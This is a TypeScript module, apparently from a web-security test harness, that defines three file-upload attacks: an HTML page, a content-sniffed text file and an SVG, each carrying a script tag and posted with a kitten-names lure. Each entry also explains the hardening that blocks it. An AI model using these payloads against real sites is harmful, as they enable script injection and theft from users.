import type { Aim, Attack, Bait } from "../attack.ts";

/** Uploads a file with a message; the bait is the file itself. */
async function upload({ target, accomplice }: Aim, name: string, type: string, content: string): Promise<Bait> {
  const id = await accomplice.post({ text: "Names for kittens, have a look:" }, { name, type, content });
  if (id === undefined) {
    return {
      url: `${target.origin}/`,
      shown: content,
      notes: ["The site did not take the file: there is nothing to open."],
    };
  }
  return {
    url: `${target.origin}/posts/${id}/file`,
    shown: content,
    notes: [`The site took the file: /posts/${id}/file`],
  };
}

export const FILES: readonly Attack[] = [
  {
    slug: "html-upload",
    title: "An uploaded HTML file",
    family: "files",
    does: "Uploads a page with a script as the file of a message.",
    victim: "Open the file.",
    unsealed:
      "The file is sent as what its name says, a page, from the site's own address, with all the rights of its pages.",
    sealed: "What is stored is sent as an attachment, never sniffed, in a sandbox without scripts.",
    proof: "loot",
    prepare: (aim) =>
      upload(
        aim,
        "kitten-names.html",
        "text/html",
        `<!doctype html><h1>Minka, Otto, Luna</h1><script src="${aim.script}"></script>`,
      ),
  },
  {
    slug: "sniffed-text",
    title: "A text file that sniffs as HTML",
    family: "files",
    does: "Uploads a file without an extension, of no declared type, that begins with a tag.",
    victim: "Open the file.",
    unsealed: "Nobody knows what it is, so the browser guesses from the first bytes; and those say HTML.",
    sealed: "Text is text/plain with nosniff, as an attachment: nothing is left to guess.",
    proof: "loot",
    prepare: (aim) =>
      upload(
        aim,
        "kitten-names",
        "unknown/unknown",
        `<html><body>Minka, Otto, Luna<script src="${aim.script}"></script></body></html>`,
      ),
  },
  {
    slug: "svg-upload",
    title: "An SVG with a script",
    family: "files",
    does: "Uploads a drawing: SVG is a picture format that may contain scripts.",
    victim: "Open the drawing.",
    unsealed: "Opened by itself it is a document of the site, and its script runs there.",
    sealed: "Inline go only pictures that are nothing but pixels, proven by their bytes; SVG is not among them.",
    proof: "loot",
    prepare: (aim) =>
      upload(
        aim,
        "kitten.svg",
        "image/svg+xml",
        `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><circle cx="5" cy="5" r="4" fill="orange"/><script href="${aim.script}"/></svg>`,
      ),
  },
];
